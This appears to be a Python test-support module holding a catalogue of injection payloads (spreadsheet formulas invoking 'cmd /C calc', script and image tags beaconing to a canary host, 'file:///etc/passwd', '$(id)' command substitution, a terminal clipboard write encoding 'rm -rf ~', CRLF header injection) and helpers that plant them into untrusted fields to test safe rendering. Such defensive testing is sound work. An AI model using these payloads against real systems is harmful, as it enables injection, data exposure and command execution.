"""Texts that try to be more than text, in every place where a file, a page, a terminal or a window might obey them.

`PAYLOADS` names each one. `planted` puts one into every text of a value that outsiders can write: what a server, a
certificate, a name server, the system or a person said. A payload that loads or runs something names `CANARY`, so
that a test can see whether anybody came.
"""

from collections.abc import Callable
from typing import TypeVar

from app.report.texts import map_texts

Value = TypeVar("Value")
Place = Callable[[str, str], str]
"""Puts a payload (the second) into a text."""

CANARY = "canary.invalid"
HARMLESS = "harmless"
LIVE = f"http://{CANARY}/"
_SCRIPT = f"document.title='{CANARY}';new Image().src='{LIVE}script'"

PAYLOADS = {
    # spreadsheets: what begins with = + - @ or a tab is a formula (CWE-1236)
    "formula": '=HYPERLINK("http://canary.invalid/","click")',
    "formula_command": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "formula_web": '=WEBSERVICE("http://canary.invalid/")',
    "formula_quoted": '"=1+1',
    "cell_break": 'a","=1+1","b',
    "cell_line_break": 'a"\r\n=1+1,"b',
    "cell_semicolon": "a;=1+1;b",
    "full_width_formula": "＝1+1",
    # HTML
    "script": f"<script>{_SCRIPT}</script>",
    "script_broken_out": f"</script></style></title></pre></td></bdi><script>{_SCRIPT}</script>",
    "script_from_elsewhere": f"<script src={LIVE}s.js></script>",
    "image": f"<img src={LIVE}i.png>",
    "image_error": f'<img src=x onerror="{_SCRIPT}">',
    "image_file": '<img src="file:///etc/hostname">',
    "image_share": r"<img src=\\canary.invalid\share\i.png>",
    "frame": f'<iframe src="{LIVE}f.html"></iframe>',
    "frame_document": f'<iframe srcdoc="<script>{_SCRIPT}</script>"></iframe>',
    "object": f'<object data="{LIVE}o"></object><embed src="{LIVE}e">',
    "base": f'<base href="{LIVE}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={LIVE}">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "form": f'<form action="{LIVE}"><input name=a autofocus onfocus="{_SCRIPT}"></form>',
    "link": f'<link rel="stylesheet" href="{LIVE}s.css"><link rel="prefetch" href="{LIVE}p">',
    "anchor": f'<a href="javascript:{_SCRIPT}">x</a>',
    "video": f'<video autoplay src="{LIVE}v" poster="{LIVE}p"></video>',
    "opened": f'<details open ontoggle="{_SCRIPT}">x</details>',
    "attribute": f'" onmouseover="{_SCRIPT}" x="',
    "attribute_apostrophe": f"' autofocus onfocus='{_SCRIPT}' x='",
    "attribute_no_quotes": f"x onfocus={_SCRIPT} autofocus=",
    "comment": "--><!--",
    "comment_end": "--!><script>1</script>",
    "cdata": "]]><script>1</script><![CDATA[",
    "entities": "&lt;script&gt;1&lt;/script&gt;",
    "numeric_entities": "&#60;script&#62;1&#x3c;/script&#x3E;",
    "no_semicolon": "&ltscript&gt",
    "upper_case": "<ScRiPt>1</sCrIpT>",
    "unclosed": "<b><i><table><tr><td>",
    "closing": "</main></body></html>",
    "template": "<template><script>1</script></template>",
    "plaintext": "<plaintext>",
    "text_area": "<textarea>",
    "full_width_tag": "\uff1cscript\uff1e1\uff1c/script\uff1e",
    # SVG and CSS
    "svg": f'<svg onload="{_SCRIPT}"><image href="{LIVE}s.png"/></svg>',
    "svg_broken_out": f'</svg><svg><script href="{LIVE}s.js"/></svg>',
    "svg_use": f'<svg><use href="{LIVE}u.svg#a"/></svg>',
    "math": f'<math><mtext><style><img src="{LIVE}m"></style></mtext></math>',
    "style": f"<style>@import '{LIVE}s.css';*{{display:none}}</style>",
    "style_attribute": f'" style="background:url({LIVE}b.png);position:fixed;inset:0',
    "css_end": f"}}*{{background:url({LIVE}c.png)}}",
    "css_expression": "expression(alert(1));behavior:url(#x)",
    # URLs
    "javascript": f"javascript:{_SCRIPT}",
    "javascript_split": "java\tscript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "file": "file:///etc/passwd",
    "share": r"\\canary.invalid\share",
    # Markdown and ticket systems
    "markdown_image": f"![x]({LIVE}m.png)",
    "markdown_link": "[Log in](javascript:alert(1))",
    "markdown_reference": f"[x]: {LIVE}r",
    "fence": "```\n# heading\n```",
    "backticks": "` `` ``` ~~~",
    "heading": "\n# Heading\n===",
    "wiki": "{code}h1. heading{code} !http://canary.invalid/i.png!",
    "mention": "@everyone #1 /close",
    "table": "| a | b |\n|---|---|",
    # terminals
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "hyperlink": "\x1b]8;;http://canary.invalid/\x1b\\click\x1b]8;;\x1b\\",
    "eight_bit_escape": "\x9b31mred",
    "device_answer": "\x1b[6n\x1b[c",
    "backspace": "safe\b\b\b\bevil",
    "return": "evil\rsafe",
    "null": "a\x00b",
    "bell": "a\x07b",
    "delete": "a\x7fb",
    "rich_markup": f"[bold red]x[/] [link={LIVE}]y[/link] [/]",
    # Unicode
    "override": "\u202egpj.exe\u202c",
    "isolate_end": "\u2069\u2069\u202etxt",
    "isolate_begin": "\u2066\u2067\u2068open",
    "marks": "\u200e\u200f\u061cx",
    "arabic": "\u0627\u0644\u062e\u0627\u062f\u0645 <b>8443</b>",
    "zero_width": "a\u200bd\u200cm\ufeffin",
    "line_separator": "a\u2028b\u2029c",
    "next_line": "a\x85b\x0bc\x0cd",
    "tags": "\U000e0041\U000e0042x",
    "many_marks": "z" + "\u0301" * 200,
    "not_a_character": "a\ufffeb\uffffc",
    # placeholders of our own texts, of Qt and of C
    "placeholder": "{host} {port} {seconds} {} {0} {host.__class__}",
    "count": "%n %1 %L1 %s %x%x%n",
    "template_language": "${7*7} {{7*7}} #{7*7} <%= 7*7 %>",
    "environment": "$HOME %PATH% $(id) `id` ; id | id",
    "mnemonic": "&File & E&xit && &&&",
    # lines
    "new_line": "a\nOutcome: reached\nb",
    "many_lines": "a\n" * 50,
    "header": "a\r\nSet-Cookie: x=y",
    "long": "A" * 5000,
    "quotes": "\"'`\u201c\u201d\u2018\u2019",
    "backslashes": '\\" \\n \\u003cb\\u003e',
}


def planted(value: Value, payload: str, place: Place) -> Value:
    """Return `value` with the payload in each of its texts, where `place(text, payload)` puts it.

    Ids stay: they are looked up, and an unknown one would be explained in other words.
    """
    return map_texts(value, lambda name, text: place(text, payload) if text and name != "id" else text)


def likeness(payload: str) -> str:
    """Return a harmless text that this program itself treats as it does the payload.

    A value that begins with a hyphen is offered in no command, and a URL without a host names none.
    """
    begin = "-" if payload.startswith("-") else ""
    return f"{begin}file:///{HARMLESS}" if ":///" in payload else f"{begin}{HARMLESS}"


def in_front(text: str, payload: str) -> str:
    """Begin with the payload: formulas."""
    return payload + text


def behind(text: str, payload: str) -> str:
    """End with the payload: the text still looks like what it was."""
    return text + payload
